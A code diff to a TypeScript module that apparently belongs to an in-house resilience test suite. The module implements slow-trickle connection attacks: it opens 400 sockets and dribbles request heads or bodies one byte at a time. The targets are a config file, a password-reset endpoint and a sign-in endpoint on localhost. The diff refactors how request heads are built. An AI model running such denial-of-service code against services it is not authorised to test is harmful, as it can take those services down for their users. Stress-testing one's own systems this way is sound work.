@@ -5,8 +5,11 @@ import { PolledClient } from '../polled-client.ts';
 
 /** Attacks that hold connections, and what hangs on them. */
 
-const extraHeaders = Object.entries(networkHeaders).map(([name, value]) => `${name}: ${value}\r\n`);
-const head = (first: string) => `${first} HTTP/1.1\r\nHost: localhost\r\n${extraHeaders.join('')}`;
+/** A request's head up to where more headers, or the end, may follow. */
+function head(first: string): string {
+  const headers = Object.entries({ host: 'localhost', ...networkHeaders() });
+  return `${first} HTTP/1.1\r\n${headers.map(([name, value]) => `${name}: ${value}\r\n`).join('')}`;
+}
 
 /** Opens so many connections; those that are not taken within five seconds are left out. */
 async function connections({ origin }: Siege, count: number): Promise<Socket[]> {
@@ -33,10 +36,10 @@ function countOpen(sockets: Socket[], tally: Tally): void {
 }
 
 /** Requests whose head, or body, comes a byte at a time. */
-function trickling(request: string): Attack {
+function trickling(request: () => string): Attack {
   return async (siege, tally) => {
     const sockets = await connections(siege, 400);
-    for (const socket of sockets) socket.resume().write(request);
+    for (const socket of sockets) socket.resume().write(request());
     const end = Date.now() + siege.duration;
     while (Date.now() < end) {
       for (const socket of sockets) if (socket.writable) socket.write('x');
@@ -46,10 +49,10 @@ function trickling(request: string): Attack {
   };
 }
 
-const post = (path: string) =>
+const post = (path: string) => () =>
   `${head(`POST ${path}`)}Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n{`;
 
-export const trickledHeads = trickling(`${head('GET /config.json')}X-Long: `);
+export const trickledHeads = trickling(() => `${head('GET /config.json')}X-Long: `);
 export const trickledBodies = trickling(post('/api/auth/passwordReset'));
 export const trickledSignIns = trickling(
   post('/identitytoolkit.googleapis.com/v1/accounts:signInWithPassword?key=embedded'),
